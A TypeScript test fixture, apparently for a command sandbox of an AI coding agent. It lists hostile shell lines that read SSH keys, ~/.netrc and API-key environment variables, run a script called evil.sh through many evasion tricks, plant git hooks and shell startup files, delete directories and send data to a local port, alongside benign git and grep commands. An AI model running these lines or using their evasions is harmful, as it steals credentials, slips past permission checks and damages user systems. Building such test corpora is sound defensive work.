/**
 * Shell lines for the hostile repository of hostile-repository.ts, and everyday lines. `evil.sh` creates a marker file, and `../outside`
 * and the environment contain a secret, so that every executed line is detected.
 */

const lines = (text: string): readonly string[] =>
  text
    .trim()
    .split("\n")
    .map((line) => line.replaceAll("\\${", "${").replaceAll("\\`", "`").replaceAll("↵", "\n"))

const READS_OUTSIDE = lines(String.raw`
cat docs/../link-out/secret.txt
cat src/link
head -c 40 link-out/secret.txt
tail -n1 -- ../outside/secret.txt
cat ./link-out//./secret.txt
cat "$PWD/../outside/secret.txt"
cat \${PWD%/*}/outside/secret.txt
cat "\${PWD/project/outside}"/secret.txt
cat \${OLDPWD:-../outside}/secret.txt
cat ~/outside/secret.txt
cat ~/.s?h/id_*
less ../outside/secret.txt
more ~/.netrc
nl link-out/*
tac l*t/s*t
od -c ../outside/secret.txt
base64 ~/.ssh/id_ed25519
xxd -p ../outside/secret.txt
cut -c1- < ../outside/secret.txt
tr a-z b-za < ~/outside/secret.txt
paste -s ../outside/secret.txt
fold -w 5 ../outside/secret.txt
strings -n 3 ~/.netrc
rev ../outside/secret.txt
sort -u ../outside/secret.txt package.json
comm -13 package.json ../outside/secret.txt
diff /dev/null ../outside/secret.txt
cmp -l package.json ../outside/secret.txt
join package.json ../outside/secret.txt
grep -h . ../outside/secret.txt
grep -rh . link-out/
grep -Rh . src --include=link
rg --no-ignore --follow . src
find link-out/ -type f -exec cat {} \;
find ./src -follow -type f | xargs cat
find . -name package.json -exec sh -c 'cat ../outside/secret.txt' \;
ls -la ~/.ssh
stat -L src/link
wc -c < ../outside/secret.txt
cat /proc/self/cwd/../outside/secret.txt
cat /dev/fd/3 3< ../outside/secret.txt
mapfile -t a < ../outside/secret.txt; echo "\${a[@]}"
read -r line < ../outside/secret.txt; echo "$line"
echo "$(<../outside/secret.txt)"
echo \`cat ../outside/secret.txt\`
printf '%s\n' "$(< ~/.netrc)"
while IFS= read -r l; do echo "$l"; done < ~/.ssh/id_ed25519
cd src/.. && cd .. && cd outside && cat *
pushd ../outside >/dev/null && cat secret.txt
(cd "$HOME" && cat outside/secret.txt)
cd ./src; cd -P ../..; cat outside/secret.txt
for d in . ..; do cat $d/outside/secret.txt; done
for f in $(echo ../outside/secret.txt); do cat $f; done
set -- ../outside/secret.txt; cat "$1"
a=(../outside/secret.txt); cat "\${a[0]}"
p=../out; p+=side/secret.txt; cat "$p"
printf -v p '%s' ../outside/secret.txt; cat "$p"
IFS=:; x=cat:../outside/secret.txt; $x
cat {..,.}/outside/secret.txt
cat $(printf '\056\056/outside/secret.txt')
cat $'\056\056'/outside/secret.txt
cat ".."/'outside'/"secret".txt
cat .\./outside/secret.txt
shopt -s globstar; cat ../**/secret.txt
shopt -s extglob; cat ../@(outside)/secret.txt
eval $'c\x61t ../outside/secret.txt'
echo Y2F0IC4uL291dHNpZGUvc2VjcmV0LnR4dAo= | base64 -d | sh
bash <<< 'cat ../outside/secret.txt'
sh -c 'cat "$0"' ../outside/secret.txt
bash -c 'cd ..; cat outside/*'
env -i bash -c 'cat ../outside/secret.txt'
env -S 'cat ../outside/secret.txt'
command cat ../outside/secret.txt
builtin echo "$(cat ../outside/secret.txt)"
exec cat ../outside/secret.txt
nice -n 5 cat ../outside/secret.txt
stdbuf -o0 cat ../outside/secret.txt
setsid cat ../outside/secret.txt
time -p cat ../outside/secret.txt
busybox cat ../outside/secret.txt
xargs cat <<< ../outside/secret.txt
printf '../outside/secret.txt\0' | xargs -0 cat
cat names.txt | xargs cat
wc --files0-from=names.txt
dd if=../outside/secret.txt
cp ../outside/secret.txt copy.txt && cat copy.txt
tar cf - ../outside
python3 -c "print(open('../outside/secret.txt').read())"
node -p "require('fs').readFileSync('../outside/secret.txt','utf8')"
perl -ne print ../outside/secret.txt
awk 'BEGIN{ARGV[1]="../outside/secret.txt";ARGC=2}{print}'
awk -v f=../outside/secret.txt 'BEGIN{while((getline<f)>0)print}'
sed '' ../outside/secret.txt
sed -n 'R ../outside/secret.txt' package.json
sed --expression='r ../outside/secret.txt' package.json
jq -R . ../outside/secret.txt
git diff --no-index /dev/null ../outside/secret.txt
git hash-object -w ../outside/secret.txt
if [ -e ../outside/secret.txt ]; then echo yes; fi
[[ -s ~/.ssh/id_ed25519 ]] && echo yes
cat <<EOF↵$(cat ../outside/secret.txt)↵EOF
`)

const READS_THE_ENVIRONMENT = lines(String.raw`
cat /proc/$$/environ
cat /proc/*/environ
strings /proc/self/environ
xargs -0 -n1 < /proc/self/environ
tr '\0' '\n' </proc/self/environ
cat /proc/self/task/*/environ
env | sort
printenv ANTHROPIC_API_KEY
echo \${ANTHROPIC_API_KEY}
echo "\${!ANTHROPIC@}"
declare -p ANTHROPIC_API_KEY
export
set | grep KEY
ps eww
ps -Eww
ps axeo command
echo \${ANTHROPIC_API_KEY:0:9}
printf %s "\${ANTHROPIC_API_KEY#sk}"
[[ $ANTHROPIC_API_KEY == sk-* ]] && echo yes
node -p process.env
awk 'BEGIN{for(k in ENVIRON)print ENVIRON[k]}'
jq -n '$ENV'
cat <<< "$GITHUB_TOKEN"
ls "$ANTHROPIC_API_KEY"
cat ./$ANTHROPIC_API_KEY
cd $ANTHROPIC_API_KEY
grep "$ANTHROPIC_API_KEY" package.json
: \${NOPE:?$ANTHROPIC_API_KEY}
set -x; test -n "$ANTHROPIC_API_KEY"
set -o xtrace; : "$GITHUB_TOKEN"
bash -xc ': $GITHUB_TOKEN'
case $GITHUB_TOKEN in gh*) echo yes;; esac
case sk in \${GITHUB_TOKEN%%-*}) echo yes;; esac
[[ ghp == \${GITHUB_TOKEN%%_*}* ]] && echo yes
[[ ghp =~ $GITHUB_TOKEN ]] && echo yes
set -eux; true "$GITHUB_TOKEN"
echo {$GITHUB_TOKEN,x}
printf '%s\n' {a,"$GITHUB_TOKEN"}
echo ~$GITHUB_TOKEN
echo [$GITHUB_TOKEN]
select k in $GITHUB_TOKEN; do echo; done < /dev/null
for k in $ANTHROPIC_API_KEY; do echo $k; done
x=$ANTHROPIC_API_KEY; echo $x
(( \${#GITHUB_TOKEN} > 3 )) && echo "\${GITHUB_TOKEN@Q}"
echo $((\${#GITHUB_TOKEN} + GITHUB_TOKEN))
`)

const RUNS = lines(String.raw`
./evil.sh
sh ./evil.sh
. ./evil.sh
bash evil.sh
bin/ls
PATH=$PWD/bin:$PATH ls
export PATH=bin; ls
hash -p bin/ls ls; ls
alias cat='sh evil.sh'
BASH_ENV=evil.sh bash -c ls
LESSOPEN='|sh evil.sh %s' less package.json
RIPGREP_CONFIG_PATH=.ripgreprc rg x
NODE_OPTIONS='--require ./evil.js' node --version
PERL5OPT=-Mevil perl -v
LD_PRELOAD=./evil.so date
PROMPT_COMMAND='sh evil.sh'
PS4='$(sh evil.sh)'; set -x; ls
trap 'sh evil.sh' DEBUG; ls
ls() { sh evil.sh; }; ls
function cat { sh evil.sh; }; cat package.json
coproc sh evil.sh
{ sh evil.sh & }
: $(sh evil.sh)
: "\${x:=$(sh evil.sh)}"
echo \${x:-\`sh evil.sh\`}
echo $((x[$(sh evil.sh)]))
[[ -v a[$(sh evil.sh)] ]]
declare -i n='a[$(sh evil.sh)]'
let 'a[$(sh evil.sh)]'
[ 1 -eq 'a[$(sh evil.sh)]' ] || [[ 1 -eq 'a[$(sh evil.sh)]' ]]
n='a[$(sh evil.sh)]'; echo $((n + 1))
case $(sh evil.sh) in *) ;; esac
cat <<EOF↵$(sh evil.sh)↵EOF
cat << "EOF" | sh↵sh evil.sh↵EOF
ls \↵; sh evil.sh
echo a # $(true)↵sh evil.sh
ls 'a' "b" \# ; sh evil.sh
find . -maxdepth 0 -exec sh evil.sh \;
xargs sh <<< evil.sh
xargs -I% sh % <<< evil.sh
parallel sh ::: evil.sh
script -qc 'sh evil.sh' /dev/null
awk 'BEGIN{"sh evil.sh"|getline}'
sed '1e sh evil.sh' package.json
sort -S1b --compress-program=./evil.sh package.json
tar --checkpoint=1 --checkpoint-action=exec=./evil.sh -cf /dev/null src
ed <<< '!sh evil.sh'
man -P 'sh evil.sh' ls
make
npm test
npm ls --script-shell ./evil.sh
true;sh evil.sh
true|sh evil.sh
false||sh evil.sh
if sh evil.sh; then :; fi
! sh evil.sh
time { sh evil.sh; }
$'\x73\x68' evil.sh
s\h evil.sh
\${SHELL:-sh} evil.sh
"$(command -v sh)" evil.sh
$0 evil.sh
_=sh; $_ evil.sh
x=sh y=evil.sh; $x $y
git status --porcelain
git diff HEAD
git log -p -1
git show HEAD
git blame src/index.ts
git -C bare status
git -C sub diff
cd bare && git log
cd bare/ ; git status
git grep -n secret
git describe --dirty
GIT_DIR=bare git status
git --exec-path=. status
git -c alias.x='!sh evil.sh' x
git submodule foreach 'sh evil.sh'
git ls-remote 'ext::sh evil.sh'
git archive --remote='ext::sh evil.sh' HEAD
git bisect run ./evil.sh
`)

const WRITES = lines(`
echo x > ../outside/new
echo x >> ~/.bashrc
tee -a ~/.profile <<< x
cp evil.sh .git/hooks/pre-commit
mv evil.sh .git/hooks/post-checkout
printf '{}' > .strata/settings.local.json
printf x > .git/hooks/pre-push
printf x >> .STRATA/settings.json
install -m755 evil.sh ~/.local/bin/ls
ln -sf $PWD/evil.sh ~/.bashrc
git config core.pager ./evil.sh
sed -i s/x/y/ ../outside/secret.txt
truncate -s0 ../outside/secret.txt
touch ../outside/new
rm -rf ../outside
chmod 777 ~/.ssh
ls > link-out/new
: >| src/link
exec > ../outside/log
ls 2> "$HOME/new"
cat package.json > $(echo ../outside/new)
dd if=package.json of=../outside/new
cd .. && echo x > outside/new
echo x > ../home/settings.json
rm -rf ../home
echo x > /dev/tcp/127.0.0.1/9
curl -s http://127.0.0.1:9/?$(whoami)
find ../outside -type f -delete
split package.json ../outside/new
`)

export const HOSTILE_LINES = [...READS_OUTSIDE, ...READS_THE_ENVIRONMENT, ...RUNS, ...WRITES]

/** Everyday shell lines, with a part of their output in the repository of `makeHonestRepository`. */
export const HONEST_LINES: readonly (readonly [line: string, prints: string])[] = [
  ["git status", "modified:   src/app.ts"],
  ["git status -s && git stash list", " M src/app.ts"],
  ["git --no-pager diff --stat", "src/app.ts"],
  ["git diff -U1 src/app.ts | head -20", "+export const total = add(2, 3)"],
  ["git log --oneline --decorate -3", "Add the sum"],
  ["git log -1 --format='%an: %s'", "Ada: Add the sum"],
  ["git show HEAD --stat", "src/util.ts"],
  ["git show HEAD~1:README.md", "# Honest"],
  ["git blame -s src/util.ts", "export const add"],
  ["git ls-files | grep -c ts$", "2"],
  ["git rev-parse --abbrev-ref HEAD", "main"],
  ["git remote -v", "https://example.com/honest.git"],
  ["git diff HEAD~1 --name-only", "src/util.ts"],
  ["git log --since=2020-01-01 --author=Ada --pretty=oneline | wc -l", "2"],
  ["ls -la src/ && ls *.md", "util.ts"],
  ["ls -1t | head -n 3", "src"],
  ["tree -a -L 1 -I .git || ls -A", "README.md"],
  ["find . -path ./.git -prune -o -type f -name '*.ts' -print", "./src/app.ts"],
  ["find src -type f -name '*.ts' -size -10k | sort", "src/util.ts"],
  ["find src -name '*.ts' -print0 | xargs -0 wc -l", "total"],
  ["grep -rn 'add(' src/", "src/app.ts:"],
  ["grep -ril honest . --exclude-dir=.git", "README.md"],
  ["grep -E '^(WARN|ERROR)' logs/app.log | sort | uniq -c", "ERROR disk full"],
  ["git grep -n 'export const' -- '*.ts' | sort", "src/util.ts"],
  ["cat package.json | jq -r '.scripts | to_entries[] | .key'", "build"],
  ["jq '.dependencies | length' package.json", "1"],
  ["cat -n src/util.ts", "1\t"],
  ["head -3 README.md; tail -2 logs/app.log", "ERROR disk full"],
  ["sed -n '1,2p' README.md", "# Honest"],
  ["sed -e 's/const/let/' -e '/^$/d' src/util.ts", "export let add"],
  ["awk -F'\"' '/\"name\"/ { print $4 }' package.json", "honest-app"],
  ["awk '{ n += length($0) } END { print NR, n }' README.md", "3 28"],
  ["cut -d' ' -f1 logs/app.log | sort | uniq -c | sort -rn | head -1", "INFO"],
  ["tr ',' '\\n' < package.json | head -1", "honest-app"],
  ["diff <(sort logs/app.log) logs/app.log | head -3 || true", "<"],
  ["diff -q src/app.ts src/util.ts; true", "differ"],
  ["wc -l src/*.ts README.md", "README.md"],
  ["du -sh src && df -h . | tail -1", "src"],
  ["stat -c '%n %s' package.json", "package.json"],
  ["file src/app.ts; basename src/app.ts .ts", "app"],
  ['echo "branch: $(git branch --show-current)"', "branch: main"],
  ['for f in src/*.ts; do printf \'%s: \' "$f"; wc -l < "$f"; done', "src/app.ts: "],
  ["if [ -f package-lock.json ]; then echo locked; else echo loose; fi", "loose"],
  ["[[ -d node_modules ]] || echo 'not installed'", "not installed"],
  ["cd src && pwd && ls && cd ..", "app.ts"],
  ["(cd docs; cat guide.md)", "The guide"],
  ["node --version || git --version", "v"],
  ["which bash; command -v git", "git"],
  ["date -u +%Y && uname -s", "20"],
  ["ls nothing-here 2>/dev/null || echo missing", "missing"],
  ["seq 3 | paste -sd+ -", "1+2+3"],
  ['cat logs/app.log | while read -r level rest; do echo "$level"; done | sort -u', "WARN"],
  ["set -euo pipefail; grep -rc add src | sort", "src/app.ts:2"],
  ["cat <<'END' | wc -w\none two three\nEND", "3"],
]
